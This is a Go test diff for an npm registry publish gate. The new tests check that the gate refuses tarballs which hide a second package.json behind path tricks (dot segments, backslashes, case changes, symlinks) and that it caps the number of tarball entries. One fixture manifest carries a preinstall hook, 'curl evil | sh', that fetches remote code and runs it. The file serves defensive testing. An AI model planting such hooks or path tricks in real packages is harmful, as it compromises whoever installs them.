@@ -5,6 +5,7 @@ import (
 	"bytes"
 	"compress/gzip"
 	"encoding/json"
+	"fmt"
 	"os"
 	"strings"
 	"testing"
@@ -107,5 +108,91 @@ func TestPublishDuplicateKeysAreRefused(t *testing.T) {
 			resp, b := p.do("PUT", "/dup-a", p.authz, body)
 			p.refusedAndNothingStored(t, "dup-a", resp.StatusCode, string(b), "the key "+c.path+" twice")
 		})
+	}
+}
+
+// TestPublishTarballWithTwoManifestsIsRefused: a tarball with a second
+// entry an installer extracts to package.json (with a preinstall npmgate
+// never saw) is refused, whatever spelling the second entry uses; so is
+// a package.json that is not a regular file.
+func TestPublishTarballWithTwoManifestsIsRefused(t *testing.T) {
+	const name = "two-manifests"
+	good := manifestJSON(t, map[string]any{"name": name, "version": "1.0.0"})
+	evil := manifestJSON(t, map[string]any{"name": name, "version": "1.0.0", "scripts": map[string]string{"preinstall": "curl evil | sh"}})
+	for _, c := range []struct {
+		name    string
+		entries []tarEntry
+		want    string
+	}{
+		{"the same name twice", []tarEntry{{name: "package/package.json", body: good}, {name: "package/package.json", body: evil}}, "more than one entry"},
+		{"another first directory", []tarEntry{{name: "package/package.json", body: good}, {name: "x/package.json", body: evil}}, "more than one entry"},
+		{"leading ./", []tarEntry{{name: "package/package.json", body: good}, {name: "./package/package.json", body: evil}}, "more than one entry"},
+		{"double slash", []tarEntry{{name: "package/package.json", body: good}, {name: "package//package.json", body: evil}}, "more than one entry"},
+		{"dot segment", []tarEntry{{name: "package/package.json", body: good}, {name: "package/./package.json", body: evil}}, "more than one entry"},
+		{"dot-dot segment", []tarEntry{{name: "package/package.json", body: good}, {name: "package/lib/../package.json", body: evil}}, "more than one entry"},
+		{"upper case", []tarEntry{{name: "package/package.json", body: good}, {name: "package/PACKAGE.json", body: evil}}, "more than one entry"},
+		{"backslash", []tarEntry{{name: "package/package.json", body: good}, {name: `package\package.json`, body: evil}}, "more than one entry"},
+		{"trailing dot", []tarEntry{{name: "package/package.json", body: good}, {name: "package/package.json.", body: evil}}, "more than one entry"},
+		{"evil one first", []tarEntry{{name: "x/package.json", body: evil}, {name: "package/package.json", body: good}}, "more than one entry"},
+		{"a symlink", []tarEntry{{name: "package/real.json", body: good}, {name: "package/package.json", typeflag: tar.TypeSymlink, linkname: "real.json"}}, "not a regular file"},
+		{"a hard link", []tarEntry{{name: "package/real.json", body: good}, {name: "package/package.json", typeflag: tar.TypeLink, linkname: "package/real.json"}}, "not a regular file"},
+		{"only an upper-case one", []tarEntry{{name: "package/Package.json", body: good}}, "not named package.json"},
+		{"duplicate keys inside", []tarEntry{{name: "package/package.json", body: strings.Replace(good, `"name":`, `"scripts":{"preinstall":"x"},"scripts":{},"name":`, 1)}}, "package.json has the key scripts twice"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			p := publishGate(t)
+			status, body := p.publishTarball(name, tarballOf(t, c.entries...), nil)
+			p.refusedAndNothingStored(t, name, status, body, c.want)
+		})
+	}
+
+	// A package.json deeper down is an ordinary file of the package.
+	p := publishGate(t)
+	tgz := tarballOf(t, tarEntry{name: "package/package.json", body: good}, tarEntry{name: "package/lib/package.json", body: evil},
+		tarEntry{name: "package/node_modules/x/package.json", body: evil})
+	if status, body := p.publishTarball(name, tgz, nil); status != 200 {
+		t.Errorf("a package with nested package.json files: %d %s", status, body)
+	}
+}
+
+// TestPublishTarballEntriesAreBounded: a tarball of more entries than
+// any package has is refused, not walked to the end.
+func TestPublishTarballEntriesAreBounded(t *testing.T) {
+	const name = "many-entries"
+	entries := []tarEntry{{name: "package/package.json", body: manifestJSON(t, map[string]any{"name": name, "version": "1.0.0"})}}
+	for i := range maxTarEntries {
+		entries = append(entries, tarEntry{name: fmt.Sprintf("package/d/%d", i)})
+	}
+	p := publishGate(t)
+	status, body := p.publishTarball(name, tarballOf(t, entries...), nil)
+	p.refusedAndNothingStored(t, name, status, body, fmt.Sprintf("more than %d entries", maxTarEntries))
+}
+
+func TestLandsAt(t *testing.T) {
+	for _, c := range []struct {
+		name string
+		want bool
+	}{
+		{"package/package.json", true},
+		{"x/package.json", true},
+		{"./package/package.json", true},
+		{"package//package.json", true},
+		{"package/./package.json", true},
+		{"/package/package.json", true},
+		{"../package.json", true}, // node-tar strips "..", then writes package.json
+		{"package/a/../package.json", true},
+		{"package/PACKAGE.JSON", true},
+		{`package\package.json`, true},
+		{"package/package.json ", true},
+		{"package/package.json/", true},
+		{"package.json", false},
+		{"package/lib/package.json", false},
+		{"package/node_modules/a/package.json", false},
+		{"package/package.json5", false},
+		{"package/package.jsonx", false},
+	} {
+		if got := landsAt(c.name, "package.json"); got != c.want {
+			t.Errorf("landsAt(%q) = %v, want %v", c.name, got, c.want)
+		}
 	}
 }
